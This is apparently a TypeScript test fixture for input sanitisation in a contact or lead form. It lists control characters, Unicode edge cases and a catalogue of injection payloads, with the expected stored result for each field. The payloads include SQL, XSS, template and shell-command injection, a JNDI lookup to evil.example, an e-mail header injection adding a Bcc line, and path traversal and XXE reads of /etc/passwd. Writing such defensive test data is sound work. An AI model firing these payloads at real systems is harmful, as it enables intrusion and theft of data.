/**
 * Kinds of text, and the stored result in each kind of field. The text stands between letters, or between digits in a
 * phone number, so that nothing is trimmed.
 */
export interface StringClass {
  name: string;
  text: string;
  /** The result in names; by default unchanged. */
  line?: string;
  /** The result in the message; by default unchanged. */
  block?: string;
  /** The result in the e-mail address: `rejected` for whitespace or a second at sign, `kept`, or another text. */
  email: 'rejected' | 'kept' | { becomes: string };
  /** `clean` if normalising removes the text, so that the phone number stays valid. */
  phone?: 'clean';
  /** The form encoding of text that has no valid UTF-8. */
  notUtf8?: string;
}

/** Removed. */
const gone = { line: '', block: '', email: { becomes: '' }, phone: 'clean' } as const;
/** Line ends become spaces in names. */
const lineEnd = { line: ' ', block: '\n', email: 'rejected' } as const;
const blank = { email: 'rejected' } as const;
const kept = { email: 'kept' } as const;
const replaced = { line: '\ufffd', block: '\ufffd', email: { becomes: '\ufffd' } } as const;

export const stringClasses: StringClass[] = [
  { name: 'NUL', text: '\0', ...gone },
  { name: 'C0 controls', text: '\u0001\u0007\b\u000e\u001a\u001f', ...gone },
  { name: 'DEL and C1 controls', text: '\u007f\u0080\u0084\u0086\u009f', ...gone },
  {
    name: 'a terminal command',
    text: '\u001b[2J\u001b]0;x\u0007',
    line: '[2J]0;x',
    block: '[2J]0;x',
    email: { becomes: '[2J]0;x' },
  },
  { name: 'CRLF', text: '\r\n', ...lineEnd },
  { name: 'a bare CR', text: '\r', ...lineEnd },
  { name: 'a bare LF', text: '\n', ...lineEnd },
  { name: 'NEL', text: '\u0085', ...lineEnd },
  { name: 'a line separator', text: '\u2028', ...lineEnd },
  { name: 'a paragraph separator', text: '\u2029', ...lineEnd },
  { name: 'vertical tab and form feed', text: '\v\f', line: ' ', block: '\n\n', email: 'rejected' },
  { name: 'a tab', text: '\t', line: ' ', block: '\t', email: 'rejected' },
  {
    name: 'a header of its own',
    text: '\r\nBcc: all@evil.example\r\n\r\n',
    line: ' Bcc: all@evil.example ',
    block: '\nBcc: all@evil.example\n\n',
    email: 'rejected',
  },
  {
    name: 'a forged log line',
    text: '\n{"level":60,"msg":"stopped"}\n',
    line: ' {"level":60,"msg":"stopped"} ',
    block: '\n{"level":60,"msg":"stopped"}\n',
    email: 'rejected',
  },
  { name: 'a lone high surrogate', text: '\ud83d', ...replaced, notUtf8: '%ED%A0%BD' },
  { name: 'a lone low surrogate', text: '\ude00', ...replaced, notUtf8: '%ED%B8%80' },
  {
    name: 'a pair the wrong way round',
    text: '\ude00\ud83d',
    line: '\ufffd\ufffd',
    block: '\ufffd\ufffd',
    email: { becomes: '\ufffd\ufffd' },
    notUtf8: '%ED%B8%80%ED%A0%BD',
  },
  { name: 'right-to-left override', text: '\u202egnp.exe\u202c', ...kept },
  { name: 'bidirectional isolates', text: '\u2066x\u2067y\u2068z\u2069', ...kept },
  { name: 'direction marks', text: '\u200e\u200f\u061c', ...kept },
  { name: 'zero-width space and joiners', text: '\u200b\u200c\u200d\u2060', ...kept },
  { name: 'soft hyphen', text: '\u00ad', ...kept },
  { name: 'byte order mark inside', text: '\ufeff', ...blank },
  { name: 'no-break space', text: '\u00a0', ...blank },
  { name: 'ideographic and em space', text: '\u3000\u2003', ...blank },
  { name: 'tag characters', text: '\u{e0041}\u{e007f}', ...kept },
  { name: 'variation selectors', text: '\u2764\ufe0f\ufe0e', ...kept },
  { name: 'noncharacters', text: '\ufffe\uffff\u{1fffe}\ufdd0', ...kept },
  { name: 'private use', text: '\ue000\u{10fffd}', ...kept },
  { name: 'object replacement', text: '\ufffc\ufff9\ufffb', ...kept },
  {
    name: 'as many combining marks as a letter may have',
    text: `e${'\u0301'.repeat(30)}`,
    line: `é${'\u0301'.repeat(29)}`,
    block: `é${'\u0301'.repeat(29)}`,
    email: { becomes: `é${'\u0301'.repeat(29)}` },
  },
  { name: 'decomposed letters', text: 'e\u0301n\u0303', line: 'éñ', block: 'éñ', email: { becomes: 'éñ' } },
  {
    name: 'marks in another order',
    text: 'q\u0307\u0323',
    line: 'q\u0323\u0307',
    block: 'q\u0323\u0307',
    email: { becomes: 'q\u0323\u0307' },
  },
  { name: 'Korean in pieces', text: '\u1112\u1161\u11ab', line: '한', block: '한', email: { becomes: '한' } },
  { name: 'a sign with a twin', text: '\u212b\u2126', line: 'ÅΩ', block: 'ÅΩ', email: { becomes: 'ÅΩ' } },
  {
    name: 'letters that grow when composed',
    text: '\u{1d160}\ufb1d',
    line: '\u{1d158}\u{1d165}\u{1d16e}\u05d9\u05b4',
    block: '\u{1d158}\u{1d165}\u{1d16e}\u05d9\u05b4',
    email: { becomes: '\u{1d158}\u{1d165}\u{1d16e}\u05d9\u05b4' },
  },
  { name: 'compatibility forms', text: 'ﬁ①Ⅷ㎏', ...kept },
  { name: 'full-width letters', text: 'ＡＢ＠', ...kept },
  { name: 'look-alikes of Latin', text: 'аррӏе', ...kept },
  { name: 'Arabic with its marks', text: 'مُحَمَّد', ...kept },
  { name: 'Arabic digits', text: '٠١٢٣', ...kept },
  { name: 'Hebrew and Latin mixed', text: 'שלוםabc', ...kept },
  { name: 'Devanagari clusters', text: 'क्षि', ...kept },
  { name: 'Thai with stacked marks', text: 'ด้้้้้็็็็็', ...kept },
  { name: 'emoji beyond the first plane', text: '😀🤖', ...kept },
  { name: 'a family of joined emoji', text: '👩‍👩‍👧‍👦', ...kept },
  { name: 'a flag and half a flag', text: '🇱🇧🇱', ...kept },
  { name: 'skin tones', text: '👋🏽🏽', ...kept },
  { name: 'SQL that ends the statement', text: "'); DROP TABLE leads;--", ...blank },
  { name: 'SQL without blanks', text: "'/**/or/**/1=1--", ...kept },
  { name: 'SQL wild cards', text: '%_\\', ...kept },
  { name: 'placeholders of queries', text: '$1?:name', ...kept },
  { name: 'a Postgres escape', text: String.raw`E'\x00'::bytea`, ...kept },
  { name: 'a script element', text: '<script>alert(1)</script>', ...kept },
  { name: 'the end of an attribute', text: '"onfocus="alert(1)"autofocus="', ...kept },
  { name: 'the end of the text area', text: '</textarea></title><svg/onload=alert(1)>', ...kept },
  { name: 'character references', text: '&lt;b&gt;&#0;&amp;', ...kept },
  { name: 'a comment and a CDATA section', text: '<!--<![CDATA[]]>-->', ...kept },
  { name: 'an address that runs', text: 'javascript:alert(1)', ...kept },
  { name: 'templates of many languages', text: '{{7*7}}${7*7}<%=7*7%>#{7*7}{reference}', ...kept },
  { name: 'special replacement patterns', text: "$&$`$'$$", ...kept },
  { name: 'lookups', text: '${jndi:ldap://evil.example/a}', ...kept },
  { name: 'a shell command', text: '`id`$(id)|id;id&&id', ...kept },
  { name: 'a path', text: '../../../etc/passwd', ...kept },
  { name: 'a Windows path', text: String.raw`..\..\C:\boot.ini`, ...kept },
  { name: 'format letters', text: '%s%n%x%d', ...kept },
  { name: 'percent escapes', text: '%00%0d%0a%u0000', ...kept },
  { name: 'escapes that are letters', text: String.raw`\u0000\x00\r\n`, ...kept },
  { name: 'JSON', text: '"},{"first_name":"x', ...kept },
  { name: 'a query of a document store', text: '{"$gt":""}', ...kept },
  { name: 'an LDAP filter', text: '*)(uid=*))(|(uid=*', ...kept },
  { name: 'an XML entity', text: '<!DOCTYPE/**/x[<!ENTITY/**/e/**/SYSTEM"file:///etc/passwd">]>&e;', ...kept },
  { name: 'an expression that takes long to match', text: 'a'.repeat(70), ...kept },
  { name: 'separators of a form', text: '&first_name=Eve&=;+', ...kept },
];
